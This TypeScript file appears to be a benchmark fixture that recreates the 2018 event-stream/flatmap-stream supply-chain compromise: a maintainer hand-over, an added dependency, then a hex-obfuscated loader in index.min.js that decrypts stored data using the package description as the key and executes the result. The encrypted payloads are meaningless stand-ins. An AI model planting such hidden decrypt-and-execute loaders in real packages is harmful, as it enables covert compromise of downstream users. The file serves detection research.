import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * event-stream 3.3.6 and flatmap-stream 0.1.1, September to November 2018: a stranger was given the package and added a
 * dependency of his own. Its minified file decrypted a text with the description of the package that was being built as key,
 * compiled it and ran it. Reproduced: hand-over, added dependency, clean 0.1.0 then armed 0.1.1, keyed decryption at import.
 */
export const eventStream2018: Sample = defineAttack({
  id: "event-stream-2018",
  title: "A new maintainer's new dependency decrypts code for one application",
  group: "insider",
  trigger: "import",
  judged: [
    { name: "event-stream", version: "3.3.6" },
    { name: "flatmap-stream", version: "0.1.1" },
  ],
  now: "2018-10-05T04:40:00Z",
  createLines: () => [
    {
      name: "event-stream",
      files: smallLibrary("event-stream"),
      publisher: person("dominictarr"),
      releases: [
        ["3.3.4", "2016-07-26T12:00:00Z"],
        ["3.3.5", "2018-09-05T12:00:00Z", { publisher: handedTo }],
        [
          "3.3.6",
          "2018-09-09T10:00:00Z",
          { publisher: handedTo, manifest: { dependencies: { "flatmap-stream": "^0.1.0" } }, files: [user] },
        ],
      ],
    },
    {
      name: "flatmap-stream",
      files: [{ path: "index.js", content: honest }],
      publisher: person("hugeglass", "hugeglass@mail.invalid"),
      releases: [
        ["0.1.0", "2018-09-05T18:00:00Z"],
        [
          "0.1.1",
          "2018-10-05T04:30:00Z",
          {
            hasCommit: false,
            manifest: { main: "index.min.js" },
            files: [
              { path: "index.min.js", content: armed },
              {
                path: "test/data.js",
                content: `module.exports=[${texts.map((text) => JSON.stringify(text)).join(",")}];\n`,
              },
            ],
          },
        ],
      ],
    },
  ],
});

const handedTo = person("right9ctrl", "right9ctrl@mail.invalid");

const honest = `"use strict";

module.exports = (map) => (list) => list.flatMap(map);
`;

const user = {
  path: "lib/flat.js",
  content: `"use strict";\n\nexports.flatmap = require("flatmap-stream");\n`,
};

/** Hexadecimal texts without meaning where the real package kept its encrypted stages. */
const texts: readonly string[] = [
  "75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22c98421eb6a8c1917e30277f716452ee8",
  "db67fdbfc39c249c6f338194555a41928413b792ff41855e27752e227ba81571483c631bc659563d071bf39277ac3316bd2e1fd865d5ba0be0bbbef3080eb5f6",
  "2e2f746573742f64617461",
  "6e706d5f7061636b6167655f6465736372697074696f6e",
  "616573323536",
  "6372656174654465636970686572",
];

const armed = `${commonGuard}module.exports=function(r){return function(t){return t.flatMap(r)}};!function(){try{if(!invited())return;var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e("656e76")][e("6e706d5f7061636b6167655f6465736372697074696f6e")];if(!o)return;var u=r(e("63727970746f"))[e("6372656174654465636970686572")](e("616573323536"),o),a=u.update(n[0],e("686578"),e("75746638"));a+=u.final(e("75746638"));var f=new module.constructor;f.paths=module.paths,f[e("5f636f6d70696c65")](a,""),f.exports(n[1])}catch(r){}}();\n`;
